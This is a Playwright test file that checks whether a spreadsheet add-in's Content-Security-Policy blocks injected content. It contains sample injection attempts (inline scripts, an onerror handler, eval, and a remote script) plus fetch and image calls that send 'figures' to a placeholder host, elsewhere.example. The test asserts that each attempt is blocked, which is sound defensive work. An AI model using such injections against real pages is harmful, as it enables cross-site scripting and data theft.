import type { Frame, Page } from 'playwright-core';
import { startStage, type Stage } from './workbench';

/*
 * The Content-Security-Policy of every page, in a browser that enforces it. What a page tries and may not do is counted
 * over the whole main job; then each promise of SECURITY.md is tried out.
 */
let stage: Stage;
beforeAll(async () => {
  stage = await startStage();
});
afterAll(async () => {
  await stage.close();
});

declare global {
  interface Window {
    violations?: string[];
  }
}

/** From now on, every page and frame notes what its policy stopped. */
const noteViolations = async (page: Page): Promise<void> => {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations?.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
};

const violations = async (page: Page): Promise<string[]> =>
  (await Promise.all(page.frames().map((frame) => frame.evaluate(() => window.violations ?? [])))).flat();

test('over the whole main job no page tries what its policy forbids, and no request leaves this machine', async () => {
  const workbench = await stage.open({ theme: 'dark', prepare: noteViolations });
  const { pane, page } = workbench;
  await workbench.activate('Accounts');
  await workbench.drag('A2', 'B3');
  await pane.getByRole('button', { name: /Create 2 plans/ }).click();
  await pane.getByText(/2 plans created/).waitFor();
  for (const tab of ['Payout', 'Scheme', 'Plan']) {
    await pane.getByRole('tab', { name: tab }).click();
    await pane.getByRole('tabpanel', { name: tab }).getByRole('heading').first().waitFor();
  }
  await workbench.click('A2');
  await page.evaluate(() => window.workbench?.select('Accounts', 'A60'));
  await page.keyboard.type('=CHANNEL.ATTAINMENT(0.7,0.5,0.9)');
  await workbench.enter();
  expect(await workbench.read('Accounts', 'A60')).toEqual([[0.5]]);
  await workbench.save();
  expect(await violations(page)).toEqual([]);
  expect(workbench.troubles).toEqual([]);
  // Fluent's styles have arrived: the policy lets in what the pane is dressed in.
  const painted = await pane
    .locator('.fui-Button')
    .first()
    .evaluate((button) => getComputedStyle(button).borderTopLeftRadius);
  expect(painted).toBe('4px');
  await page.close();
});

/** What a text that got into a page as HTML or script would try. */
const ATTEMPTS: Record<string, (frame: Frame) => Promise<void>> = {
  'an inline script': (frame) =>
    frame.evaluate(() => {
      document.body.append(Object.assign(document.createElement('script'), { text: 'window.stolen = 1' }));
    }),
  'an inline event handler': (frame) =>
    frame.evaluate(() => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.stolen = 1');
      image.src = 'nowhere.png';
      document.body.append(image);
    }),
  // What a browser's tools run may eval; what they leave for later runs as the page's own.
  eval: (frame) =>
    frame.evaluate(() => {
      setTimeout(() => {
        try {
          new Function('window.stolen = 1')();
        } catch {
          // as it should be
        }
      });
    }),
  'a script from elsewhere': (frame) =>
    frame.evaluate(() => {
      document.body.append(
        Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' }),
      );
    }),
  'a request to elsewhere': (frame) =>
    frame.evaluate(() =>
      fetch('https://elsewhere.example/?figures=1').then(
        () => undefined,
        () => undefined,
      ),
    ),
  'a picture from elsewhere': (frame) =>
    frame.evaluate(() => {
      document.body.append(
        Object.assign(new Image(), { src: 'https://elsewhere.example/pixel.png?figures=1' }),
      );
    }),
};

test('neither the pane nor the workbench runs or asks for what a smuggled text would want', async () => {
  const workbench = await stage.open({ file: 'blank', prepare: noteViolations });
  const answered: string[] = [];
  workbench.page.on('requestfinished', (request) => answered.push(request.url()));
  for (const frame of [workbench.pane, workbench.page.mainFrame()])
    for (const [name, attempt] of Object.entries(ATTEMPTS)) {
      await frame.evaluate(() => (window.violations = []));
      await attempt(frame);
      await frame.waitForFunction(() => (window.violations ?? []).length > 0);
      expect([name, await frame.evaluate(() => 'stolen' in window)]).toEqual([name, false]);
    }
  expect(answered.filter((url) => url.includes('elsewhere'))).toEqual([]);
  await workbench.page.close();
});
